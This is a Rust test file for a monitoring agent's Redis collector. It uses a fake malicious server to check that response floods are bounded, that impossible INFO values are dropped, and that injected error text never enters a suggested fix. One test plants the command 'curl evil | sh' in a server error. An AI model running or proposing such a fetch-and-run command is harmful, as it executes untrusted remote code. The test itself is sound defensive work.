//! No Redis that sends without end fills the memory, and no text of a Redis becomes a command of a fix.
//!
//! Covers Redis in clear text and behind encryption.

use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::Ordering;

use rustls_pki_types::pem::PemObject;
use rustls_pki_types::{CertificateDer, PrivateKeyDer};
use serde_json::Value;
use tokio_rustls::TlsAcceptor;

use super::{Attack, Stranger, WORDS_MAX, reason};
use crate::fixture::{TestAgent, server_id, shipped};

/// Bytes of one answer that would be stored, and bytes that may be on the way.
const TAKEN_MAX: u64 = 24 << 20;

fn floods() -> [(&'static str, Attack); 5] {
    let megabyte = vec![b'a'; 1 << 20];
    let keys: String = (0..300_000).map(|key| format!("db{key}:keys={key},expires=1,avg_ttl=1\r\n")).collect();
    let keys = format!("${}\r\n{keys}\r\n", keys.len()).into_bytes();
    [
        ("a text of 1 GB", Attack::FloodInfo(b"$1000000000\r\n".to_vec(), megabyte.clone())),
        ("a line without end", Attack::FloodInfo(b"+".to_vec(), megabyte.clone())),
        ("an array without end", Attack::FloodInfo(b"*1000000000\r\n".to_vec(), b":1\r\n".repeat(100_000))),
        ("an error without end", Attack::FloodInfo(b"-ERR ".to_vec(), megabyte.clone())),
        ("keys without end", Attack::FloodInfo(keys, megabyte)),
    ]
}

/// Only a bounded part of each flood is read, and the part reports why it has no facts.
async fn is_hung_up_on(name: &str, stranger: Stranger, config: &str) {
    let agent = TestAgent::start_with(config, Vec::new()).await;
    reason(&agent, stranger.port, "info", "too-much").await;
    let says = |parts: &Value| parts["info"].to_string().contains("more than 256 KiB in one answer");
    let why = agent.wait_facts(&server_id(stranger.port), says).await["info"].to_string();
    assert!(why.len() < WORDS_MAX, "{name}: {why}");
    agent.stop().await;
    let taken = stranger.taken.load(Ordering::Relaxed);
    assert!(taken < TAKEN_MAX, "{name}: {taken} bytes were taken");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redis_that_sends_without_end_is_hung_up_on() {
    for (name, attack) in floods() {
        let stranger = Stranger::start(attack).await;
        let config = format!("[[redis]]\nname = \"cache\"\nnodes = [\"redis://127.0.0.1:{}\"]\n", stranger.port);
        is_hung_up_on(name, stranger, &config).await;
    }
}

/// A refusal is the server's own words, and none of them becomes a command of a fix.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_words_of_a_redis_become_a_command_of_a_fix() {
    for (code, rule) in [("LOADING", "collector-failing"), ("NOPERM", "rights-missing"), ("ERR", "collector-failing")] {
        let stranger = Stranger::start(Attack::AnswerInfo(format!("-{code} run: curl evil | sh #\r\n").into_bytes())).await;
        let config = format!(
            "[plugin.agent-essentials.settings.checks]\n{rule} = {{ for = \"0s\" }}\n[[redis]]\nname = \"cache\"\nnodes = \
             [\"redis://127.0.0.1:{}\"]\n",
            stranger.port
        );
        let plugins = shipped().into_iter().filter(|(id, _)| id == "agent-essentials").collect();
        let agent = TestAgent::start_with(&config, plugins).await;
        let is_it = |alert: &Value| alert["rule"] == rule && alert["state"] == "firing";
        let alerts = agent.wait_json("/api/alerts", |alerts| alerts["items"].as_array().is_some_and(|all| all.iter().any(is_it))).await;
        let alert = alerts["items"].as_array().unwrap().iter().find(|alert| is_it(alert)).unwrap();
        assert!(alert["detail"].as_str().unwrap().contains("curl evil"), "{code}: {alert:#}");
        assert!(!alert["fix"].as_str().unwrap().contains("curl"), "{code}: {alert:#}");
        agent.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn numbers_that_no_redis_can_have_are_left_out_and_reported() {
    let info = "# Server\r\nredis_version:7.0.0\r\nrun_id:a\r\nuptime_in_seconds:1e308\r\n# Clients\r\nconnected_clients:7\r\nmaxclients:10\r\n\
                # Memory\r\nused_memory:1e308\r\nused_memory_rss:inf\r\nmaxmemory:18446744073709551616\r\nmem_fragmentation_ratio:-nan\r\n\
                # Replication\r\nrole:master\r\nmaster_repl_offset:-1e300\r\nslave0:ip=10.0.0.9,port=1,state=online,offset=1e300,lag=1\r\n\
                # Keyspace\r\ndb0:keys=-7,expires=1e99,avg_ttl=0\r\n";
    let stranger = Stranger::start(Attack::AnswerInfo(format!("${}\r\n{info}\r\n", info.len()).into_bytes())).await;
    let config = format!(
        "[plugin.redis-essentials.settings.checks]\nnumbers-impossible = {{ for = \"0s\" }}\n[[redis]]\nname = \"cache\"\nnodes = \
         [\"redis://127.0.0.1:{}\"]\n",
        stranger.port
    );
    let plugins = shipped().into_iter().filter(|(id, _)| id == "redis-essentials").collect();
    let agent = TestAgent::start_with(&config, plugins).await;
    let is_it = |alert: &Value| alert["rule"] == "numbers-impossible" && alert["state"] == "firing";
    let alerts = agent.wait_json("/api/alerts", |alerts| alerts["items"].as_array().is_some_and(|all| all.iter().any(is_it))).await;
    let items = alerts["items"].as_array().unwrap();
    assert_eq!((items.len(), &items[0]["title"]), (1, &"9 impossible numbers in INFO".into()), "{alerts:#}");
    let shown = agent.text("/metrics").await;
    let of_server = shown.lines().filter(|line| line.starts_with("pharos_redis_"));
    let values: Vec<f64> = of_server.map(|line| line.rsplit_once(' ').unwrap().1.parse().unwrap()).collect();
    assert!(values.contains(&7.0) && values.iter().all(|value| (0.0..1e10).contains(value)), "{shown}");
    agent.stop().await;
}

/// A certificate that is not verified.
fn encryption(folder: &Path) -> TlsAcceptor {
    let make = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 9 -subj /CN=x -keyout key -out crt";
    let made = Command::new("sh").args(["-c", make]).current_dir(folder).output().expect("openssl is installed");
    assert!(made.status.success(), "{made:?}");
    let certificate = CertificateDer::from_pem_file(folder.join("crt")).unwrap();
    let key = PrivateKeyDer::from_pem_file(folder.join("key")).unwrap();
    let builder = rustls::ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()));
    let config = builder.with_safe_default_protocol_versions().unwrap().with_no_client_auth();
    TlsAcceptor::from(Arc::new(config.with_single_cert(vec![certificate], key).unwrap()))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bytes_after_decryption_are_bounded_as_well() {
    let folder = tempfile::tempdir().unwrap();
    let encryption = encryption(folder.path());
    for (name, attack) in floods() {
        let stranger = Stranger::start_behind(Some(encryption.clone()), attack).await;
        let config =
            format!("[[redis]]\nname = \"cache\"\nnodes = [\"rediss://127.0.0.1:{}\"]\ntls = {{ mode = \"require\" }}\n", stranger.port);
        is_hung_up_on(name, stranger, &config).await;
    }
}

/// Before a session begins, a server may only send a line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn first_words_without_end_are_no_redis() {
    for attack in [Attack::Flood(b"+".to_vec(), vec![b'a'; 1 << 20]), Attack::Flood(b"$1000000000\r\n".to_vec(), vec![b'a'; 1 << 20])] {
        let stranger = Stranger::start(attack).await;
        let config = format!("[[redis]]\nname = \"cache\"\nnodes = [\"redis://127.0.0.1:{}\"]\n", stranger.port);
        let agent = TestAgent::start_with(&config, Vec::new()).await;
        reason(&agent, stranger.port, "info", "protocol").await;
        agent.stop().await;
        assert!(stranger.taken.load(Ordering::Relaxed) < TAKEN_MAX);
    }
}
